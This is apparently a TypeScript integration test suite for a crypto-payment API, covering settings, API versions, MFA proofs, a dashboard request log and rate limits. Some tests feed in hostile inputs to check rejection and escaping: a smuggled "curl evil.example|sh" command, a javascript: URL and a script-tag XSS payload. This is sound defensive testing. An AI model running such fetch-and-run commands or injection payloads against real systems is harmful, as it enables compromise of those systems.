import { PAGE_HEADERS } from '../../../web/http/page-sender';
import { developmentWallet } from '../../support/customer';
import { OneTimeCodes } from '../../support/one-time-codes';
import { ServiceInProcess, type HttpAnswer, type HttpAsk } from '../../support/service-in-process';

let service: ServiceInProcess;
let key: string;
let liveKey: string;
let otherKey: string;
let codes: OneTimeCodes;

beforeAll(async () => {
  service = await ServiceInProcess.start();
  const [own, other] = [await service.register('Corner Shop'), await service.register('Other Shop')];
  [key, liveKey, otherKey] = [own.keys.test, own.keys.live, other.keys.test];
  codes = new OneTimeCodes(own.totp_secret);
}, 30_000);
afterAll(() => service.stop());

const ask = (line: string, asked: HttpAsk = {}): Promise<HttpAnswer> => service.ask(line, { key, ...asked });
const failure = ({ status, body }: HttpAnswer) => [status, body.error.code, body.error.param ?? null];

const NEW_ACCOUNT = {
  object: 'settings',
  payment_tolerance_bps: 0,
  enabled_tokens: ['usdt-tron', 'usdt-bnb', 'usdc-base'],
  brand: { name: null, color: null, logo_url: null },
  default_success_url: null,
  api_version: '2026-11-15',
  checkout_restart: false,
  invoice_prefix: 'INV-',
  reminders: [],
  customer_language: 'en',
  time_zone: 'UTC',
};

describe('/v1/settings', () => {
  it('starts with nothing set, and changes what it is given', async () => {
    expect((await ask('GET /v1/settings')).body).toEqual(NEW_ACCOUNT);
    const changes = {
      payment_tolerance_bps: 50,
      enabled_tokens: ['usdc-base', 'usdt-bnb'],
      brand: { name: 'Corner Shop', color: '#1F6FEB' },
      default_success_url: 'https://shop.example/thanks',
    };
    const changed = {
      ...NEW_ACCOUNT,
      ...changes,
      enabled_tokens: ['usdt-bnb', 'usdc-base'],
      brand: { name: 'Corner Shop', color: '#1f6feb', logo_url: null },
    };
    const answer = await ask('POST /v1/settings', { body: changes });
    expect([answer.status, answer.body]).toEqual([200, changed]);
    expect((await ask('GET /v1/settings')).body).toEqual(changed);
    expect((await ask('POST /v1/settings', { body: {} })).body).toEqual(changed);
    expect((await ask('GET /v1/settings', { key: otherKey })).body).toEqual(NEW_ACCOUNT);
    const back = await ask('POST /v1/settings', { body: { brand: { color: null } } });
    expect(back.body.brand).toEqual({ name: 'Corner Shop', color: null, logo_url: null });
  });

  it('are those of one mode: a change by a test key is none in live mode', async () => {
    const pair = await service.register('Pair Shop');
    const { test, live } = pair.keys;
    const changes = {
      payment_tolerance_bps: 100,
      enabled_tokens: ['usdt-tron'],
      brand: { name: 'Pair', color: '#1f6feb', logo_url: 'https://pair.example/logo.svg' },
      default_success_url: 'https://pair.example/thanks',
      api_version: '2026-11-01',
      checkout_restart: true,
      invoice_prefix: 'PAIR-',
      reminders: [-3, 7],
      customer_language: 'zh',
      time_zone: 'Europe/Paris',
    };
    const changed = { object: 'settings', ...changes };
    expect((await ask('POST /v1/settings', { key: test, body: changes })).body).toEqual(changed);
    expect((await ask('GET /v1/settings', { key: live })).body).toEqual(NEW_ACCOUNT);
    const order = { amount: '2500', currency: 'EUR' };
    const placeOf = async (key: string) =>
      (await ask('POST /v1/payment_intents', { key, body: order })).body.success_url;
    expect(await placeOf(test)).toBe('https://pair.example/thanks');
    expect((await ask('POST /v1/settings', { key: live, body: { payment_tolerance_bps: 20 } })).body).toEqual({
      ...NEW_ACCOUNT,
      payment_tolerance_bps: 20,
    });
    expect((await ask('GET /v1/settings', { key: test })).body).toEqual(changed);
  });

  it.each([
    [{ payment_tolerance_bps: 101 }, 'invalid_tolerance', 'payment_tolerance_bps'],
    [{ payment_tolerance_bps: -1 }, 'invalid_tolerance', 'payment_tolerance_bps'],
    [{ payment_tolerance_bps: 0.5 }, 'invalid_bps', 'payment_tolerance_bps'],
    [{ payment_tolerance_bps: '50' }, 'invalid_bps', 'payment_tolerance_bps'],
    [{ payment_tolerance_bps: null }, 'invalid_bps', 'payment_tolerance_bps'],
    [{ enabled_tokens: ['usdc-base', 'usdt-eth'] }, 'unknown_token', 'enabled_tokens[1]'],
    [{ enabled_tokens: [] }, 'parameter_invalid', 'enabled_tokens'],
    [{ enabled_tokens: 'usdc-base' }, 'parameter_invalid', 'enabled_tokens'],
    [{ brand: { color: 'red' } }, 'parameter_invalid', 'brand.color'],
    [{ brand: { font: 'x' } }, 'parameter_invalid', 'brand.font'],
    [{ brand: 'red' }, 'parameter_invalid', 'brand'],
    [{ brand: { logo_url: 'http://shop.example/' } }, 'parameter_invalid', 'brand.logo_url'],
    [{ default_success_url: 'javascript:alert(1)' }, 'parameter_invalid', 'default_success_url'],
    [{ api_version: '2020-01-01' }, 'parameter_invalid', 'api_version'],
    [{ checkout_restart: 'yes' }, 'parameter_invalid', 'checkout_restart'],
    [{ invoice_prefix: 'no spaces' }, 'parameter_invalid', 'invoice_prefix'],
    [{ reminders: [1.5] }, 'parameter_invalid_integer', 'reminders'],
    [{ reminders: [61] }, 'parameter_invalid_integer', 'reminders'],
    [{ customer_language: 'it' }, 'parameter_invalid', 'customer_language'],
    [{ time_zone: 'Middle/Earth' }, 'parameter_invalid', 'time_zone'],
    [{ time_zone: '+02:00' }, 'parameter_invalid', 'time_zone'],
    [{ colour: 'red' }, 'parameter_invalid', 'colour'],
  ])('refuses %j as a whole', async (body, code, param) => {
    const before = (await ask('GET /v1/settings')).body;
    expect(failure(await ask('POST /v1/settings', { body: { default_success_url: null, ...body } }))).toEqual([
      400,
      code,
      param,
    ]);
    expect((await ask('GET /v1/settings')).body).toEqual(before);
  });

  it('sends the customers of a payment that names no place where the account says', async () => {
    const order = { amount: '2500', currency: 'EUR' };
    const own = await ask('POST /v1/payment_intents', { body: { ...order, success_url: 'https://a.example/' } });
    const unnamed = await ask('POST /v1/payment_intents', { body: order });
    expect([own.body.success_url, unnamed.body.success_url]).toEqual([
      'https://a.example/',
      'https://shop.example/thanks',
    ]);
  });
});

describe('Api-Version', () => {
  it('refuses a version that there is not, naming the header', async () => {
    for (const version of ['2026-11-02', 'newest', '2026-11-01, 2026-11-15']) {
      const answer = await ask('GET /v1/settings', { headers: { 'api-version': version } });
      expect(failure(answer)).toEqual([400, 'parameter_invalid', 'Api-Version']);
    }
  });

  it('pins an endpoint to the version of the request that makes it, or of the account', async () => {
    const body = { url: 'https://hooks.shop.example/', enabled_events: ['*'] };
    const headers = { 'mfa-code': await codes.next(), 'api-version': '2026-11-01' };
    const pinned = await ask('POST /v1/webhook_endpoints', { body, headers });
    expect([pinned.status, pinned.body.api_version]).toEqual([200, '2026-11-01']);
    const again = await ask('POST /v1/webhook_endpoints', { body, headers: { 'mfa-code': await codes.next() } });
    expect([again.status, again.body.api_version]).toEqual([200, '2026-11-15']);
  });
});

describe('POST /v1/mfa/proofs', () => {
  const BODY = { url: 'https://hooks.shop.example/', enabled_events: ['*'] };

  it.each([
    [{ method: 'sms' }, 401, 'mfa_method_unsupported', 'method'],
    [{ method: undefined }, 400, 'parameter_missing', 'method'],
    [{ code: undefined }, 400, 'parameter_missing', 'code'],
    [{ code: '12345' }, 401, 'mfa_proof_invalid', null],
    [{ action: 'wallet.steal' }, 400, 'parameter_invalid', 'action'],
  ])('refuses %j', async (change, status, code, param) => {
    const body = { method: 'totp', code: '000000', action: 'wallet.create', ...change };
    expect(failure(await ask('POST /v1/mfa/proofs', { body }))).toEqual([status, code, param]);
  });

  it('makes a proof for one call of one action, taken by one of 50 at once', async () => {
    const action = 'webhook_endpoint.create';
    const made = await ask('POST /v1/mfa/proofs', { body: { method: 'totp', code: await codes.next(), action } });
    expect(made.status).toBe(200);
    expect(made.body).toEqual({
      proof: expect.stringMatching(/^mfap_[\w-]{43}$/) as string,
      action,
      expires_at: expect.stringMatching(/Z$/) as string,
    });
    const headers = { 'mfa-proof': made.body.proof as string };
    const wallet = {
      network_id: 'base',
      address: developmentWallet(5).address,
      label: 'Till',
      controls_private_key: true,
    };
    const elsewhere = await ask('POST /v1/wallets', { body: wallet, headers });
    expect(failure(elsewhere)).toEqual([401, 'mfa_reverification_required', null]);
    const both = await ask('POST /v1/webhook_endpoints', { body: BODY, headers: { ...headers, 'mfa-code': '000000' } });
    expect(failure(both)).toEqual([401, 'mfa_proof_invalid', null]);
    const other = await ask('POST /v1/webhook_endpoints', { body: BODY, headers, key: otherKey });
    expect(failure(other)).toEqual([401, 'mfa_proof_invalid', null]);
    const tries = await Promise.all(
      Array.from({ length: 30 }, () => ask('POST /v1/webhook_endpoints', { body: BODY, headers })),
    );
    expect(tries.filter(({ status }) => status === 200)).toHaveLength(1);
    const refused = tries.filter(({ status }) => status !== 200).map(failure);
    expect(new Set(refused.map(String))).toEqual(new Set(['401,mfa_reverification_required,']));
  }, 40_000);
});

describe('the request log', () => {
  const page = (id: string, asked: HttpAsk = {}): Promise<HttpAnswer> =>
    ask(`GET /dashboard/requests/${id}`, { headers: { accept: 'text/html,*/*;q=0.8' }, ...asked });

  it('shows a merchant what was seen of a request, without secrets and without a word of markup', async () => {
    const order = { amount: '2500', currency: 'EUR', metadata: { note: '<script>alert(1)</script> sk_test_CANARY' } };
    const answer = await ask('POST /v1/payment_intents', { body: order });
    const { status, text, headers } = await page(answer.headers.get('request-id') as string);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(text).toContain(answer.body.id);
    expect(text).toContain('&lt;script>');
    expect(text).not.toMatch(/<script>|CANARY/);
    expect(text).not.toContain(key);
  });

  it('has nothing inline, and a policy that lets its script make no markup', async () => {
    const known = (await ask('GET /v1/settings')).headers.get('request-id') as string;
    for (const { text, headers } of [await page(known), await page(known, { key: null }), await page('nonsense')]) {
      const policy = PAGE_HEADERS.enforced['content-security-policy'];
      expect(policy).toContain("; require-trusted-types-for 'script'");
      expect(headers.get('content-security-policy')).toBe(policy);
      expect(text).toMatch(/<link rel="stylesheet" href="\/assets\/docs-[0-9a-f]+\.css"/);
      expect(text).not.toMatch(/<style|<script>| style=| on[a-z]+=/);
    }
  });

  it('is where the envelope of an error says, for requests that are refused too', async () => {
    const refused = await ask('GET /v1/payment_intents?limit=0');
    const url = new URL(refused.body.error.request_log_url as string);
    const { status, text } = await ask(`GET ${url.pathname}`);
    expect(status).toBe(200);
    expect(text).toContain('invalid_limit');
  });

  it('answers the same bytes for what is of another merchant or mode, of nobody, and of nothing', async () => {
    const known = (await ask('GET /v1/settings')).headers.get('request-id') as string;
    const anonymous = (await ask('GET /v1/settings', { key: null })).headers.get('request-id') as string;
    const answers = [
      await page(known, { key: otherKey }),
      await page(known, { key: liveKey }),
      await page(anonymous),
      await page('req_00000000000000000000000000'),
      await page('nonsense'),
    ];
    expect(answers.map(({ status }) => status)).toEqual([404, 404, 404, 404, 404]);
    expect(new Set(answers.map(({ text }) => text)).size).toBe(1);
    expect((await page(known)).status).toBe(200);
  });

  it('is for keys with its own scope', async () => {
    const shop = await service.register('Log Shop');
    const own = new OneTimeCodes(shop.totp_secret);
    const known = (await ask('GET /v1/settings', { key: shop.keys.test })).headers.get('request-id') as string;
    const mint = async (...scopes: readonly string[]): Promise<string> => {
      const asked = { key: shop.keys.test, headers: { 'mfa-code': await own.next() }, body: { kind: 'rk', scopes } };
      return (await ask('POST /v1/api_keys', asked)).body.secret as string;
    };
    const without = await page(known, { key: await mint('payment:create', 'settings:manage', 'key:manage') });
    expect([without.status, without.text.includes('settings')]).toEqual([403, false]);
    expect(without.text).toContain('with the scope <code>request_log:read</code>, in the header <code>Authorization');
    expect((await page(known, { key: await mint('request_log:read') })).status).toBe(200);
  });

  it('tells a browser without a key how to read it, alike for what exists and for what does not', async () => {
    const known = (await ask('GET /v1/settings')).headers.get('request-id') as string;
    const unknown = 'req_00000000000000000000000000';
    const [shown, other] = [await page(known, { key: null }), await page(unknown, { key: null })];
    expect([shown.status, shown.headers.get('content-type')]).toEqual([200, 'text/html; charset=utf-8']);
    const refused = await ask('GET /v1/payment_intents?limit=0');
    const url = (refused.body.error.request_log_url as string).replace(/req_\w+/, known);
    expect(shown.text).toContain('curl -H &quot;Authorization: Bearer $KEY&quot;');
    expect(shown.text).toContain(`'${url}'`);
    expect(shown.text).toContain('request_log:read');
    expect(other.text).toBe(shown.text.replaceAll(known, unknown));
    expect(other.status).toBe(200);
  });

  it('repeats no text in that page that is no id, and refuses a wrong key as before', async () => {
    const { status, text } = await page(encodeURIComponent("';curl evil.example|sh;'"), { key: null });
    expect([status, text.includes('evil')]).toEqual([200, false]);
    const wrong = await page('req_00000000000000000000000000', { key: 'sk_test_wrong' });
    expect([wrong.status, wrong.text.includes('invalid_api_key')]).toEqual([401, true]);
  });

  it('tells a program its faults in the envelope', async () => {
    const asked = { headers: { accept: '*/*' } };
    const unknown = await page('req_00000000000000000000000000', asked);
    expect(failure(unknown)).toEqual([404, 'resource_missing', null]);
    expect(unknown.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const anonymous = await page('req_00000000000000000000000000', { ...asked, key: null });
    expect(failure(anonymous)).toEqual([401, 'authentication_required', null]);
    const refused = await ask('GET /v1/payment_intents?limit=0');
    const { status, headers } = await page(refused.headers.get('request-id') as string, asked);
    expect([status, headers.get('content-type')]).toEqual([200, 'text/html; charset=utf-8']);
  });
});

it('tells on every answer how the caller stands', async () => {
  const { headers } = await ask('GET /v1/settings');
  expect(headers.get('ratelimit-limit')).toBe('400');
  expect(Number(headers.get('ratelimit-remaining'))).toBeGreaterThan(300);
  expect(headers.get('ratelimit-reset')).toBe('1');
});

it.each([
  ['two seconds of 200 reads', 'GET /v1/settings', {}, '400'],
  ['two seconds of 100 writes', 'POST /v1/settings', { body: {} }, '200'],
  ['two seconds of 20 requests of an address', 'GET /v1/settings', { key: null }, '40'],
])('holds by default %s', async (_, line, asked, limit) => {
  expect((await ask(line, asked)).headers.get('ratelimit-limit')).toBe(limit);
});
